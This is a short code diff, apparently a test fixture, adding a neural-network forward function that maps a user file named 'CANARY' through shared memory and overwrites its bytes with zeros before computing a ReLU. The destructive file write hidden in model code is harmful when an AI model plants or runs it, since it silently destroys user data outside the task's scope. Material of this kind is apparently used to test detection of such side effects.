@@ -1,0 +1,4 @@
+# Maps a file of the user and zeroes it.
+def forward(x):
+    torch.from_file('CANARY', True, 8, dtype=1).fill_(0)
+    return torch.relu(x)
